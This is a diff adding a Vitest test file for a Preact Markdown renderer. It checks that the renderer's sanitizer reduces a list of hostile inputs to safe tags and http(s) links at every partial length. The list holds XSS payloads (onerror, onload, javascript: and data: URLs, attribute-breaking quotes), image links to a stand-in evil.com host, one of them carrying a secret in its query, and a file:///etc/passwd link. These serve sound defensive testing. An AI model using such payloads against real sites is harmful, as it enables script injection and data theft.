@@ -1,0 +1,89 @@
+// @vitest-environment jsdom
+/** @jsxImportSource preact */
+import { render } from 'preact';
+import { afterEach, expect, test } from 'vitest';
+import { Markdown } from '../../../../components/panel/Markdown';
+
+const root = document.body.appendChild(document.createElement('div'));
+afterEach(() => render(null, root));
+
+const show = (source: string, isComplete: boolean) =>
+  render(<Markdown source={source} isComplete={isComplete} />, root);
+
+const HOSTILE = [
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(1)</script> <style>*{}</style> <iframe src="https://evil.com"></iframe>',
+  '<form action="https://evil.com"><object data="https://evil.com"></object></form>',
+  '![x](http://evil.com/a.png) ![x](https://evil.com/?q=secret "t") [![x](http://evil.com/b.png)](https://ok.com)',
+  '![x][ref] ![ref] [ref]\n\n[ref]: https://evil.com/c.png "t"',
+  '[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1)) [x](&#106;avascript:alert(1)) [x](<javascript:alert(1)>)',
+  '[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd) [x](blob:https://a.b/c)',
+  '[x](https://good.com@evil.com) [x](https://u:p@evil.com) <https://u:p@evil.com>',
+  '<javascript:alert(1)> <data:text/html,x> <https://ok.com/"onmouseover=alert(1)> https://ok.com/"onmouseover="alert(1)',
+  '[x](https://ok.com "a\\" onclick=\\"alert(1)") [" onclick="alert(1)](https://ok.com)',
+  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](http://evil.com/d.png) |',
+  '```html\n<script>alert(1)</script>\n<img src=x>',
+  '# <svg onload=alert(1)>\n\n> <a href="javascript:alert(1)">x</a>\n\n- <input autofocus onfocus=alert(1)>',
+];
+
+test.each(HOSTILE)('nothing of %j becomes more than text and links to the web, at any length', (source) => {
+  for (const isComplete of [false, true]) {
+    for (let end = 0; end <= source.length; end++) {
+      show(source.slice(0, end), isComplete);
+      const tags = [...root.querySelectorAll('*')];
+      for (const element of tags) {
+        expect(element.tagName).toMatch(
+          /^(?:P|H[3-6]|UL|OL|LI|BLOCKQUOTE|PRE|CODE|DIV|TABLE|THEAD|TBODY|TR|TH|TD|HR|STRONG|EM|DEL|A|SPAN|BR)$/,
+        );
+        for (const { name } of element.attributes)
+          expect(name).toMatch(/^(?:href|target|rel|class|tabindex|start|style)$/);
+      }
+      for (const link of root.querySelectorAll('a')) {
+        expect(link.protocol).toMatch(/^https?:$/);
+        expect(link.username + link.password).toBe('');
+        expect(link.rel).toBe('noreferrer noopener');
+        expect(link.textContent).toContain(`(${link.host})`);
+      }
+    }
+  }
+});
+
+test('the nodes of finished blocks stay the same while the text grows', () => {
+  const source =
+    '# Title\n\nA **bold** start.\n\n- one\n  - two\n- three\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n```\ncode\n```\n\nend';
+  const seen: Element[] = [];
+  const html: string[] = [];
+  for (let end = 1; end <= source.length; end++) {
+    show(source.slice(0, end), false);
+    const now = [...root.children];
+    const count = Math.max(0, now.length - 1);
+    for (let index = 0; index < count; index++) {
+      const element = now[index]!;
+      seen[index] ??= element;
+      html[index] ??= element.outerHTML;
+      expect(element).toBe(seen[index]);
+      if (index < count - 1) expect(element.outerHTML).toBe(html[index]);
+    }
+  }
+  expect(seen).toHaveLength(6);
+  show(source, true);
+  expect([...root.children].slice(0, 6)).toEqual(seen);
+});
+
+test('a finished block is not rendered again', () => {
+  show('one\n\ntwo\n\nthr', false);
+  // What is changed behind Preact's back would be put right by the next rendering.
+  (root.firstElementChild!.firstChild as Text).data = 'changed';
+  show('one\n\ntwo\n\nthree\n\nfour', false);
+  expect(root.textContent).toBe('changedtwothreefour');
+});
+
+test('the parts that a keyboard must be able to scroll can have the focus, and headings start below the article', () => {
+  show('# One\n\n###### Six\n\n```\ncode\n```\n\n|a|b|\n|-|-:|\n|c|d|\n\n3. three\n\n   more', true);
+  expect(root.innerHTML).toBe(
+    '<h3>One</h3><h6>Six</h6><pre tabindex="0"><code>code</code></pre>' +
+      '<div class="table" tabindex="0"><table><thead><tr><th style="text-align: start;">a</th><th style="text-align: end;">b</th></tr></thead>' +
+      '<tbody><tr><td style="text-align: start;">c</td><td style="text-align: end;">d</td></tr></tbody></table></div>' +
+      '<ol start="3"><li>three<p>more</p></li></ol>',
+  );
+});
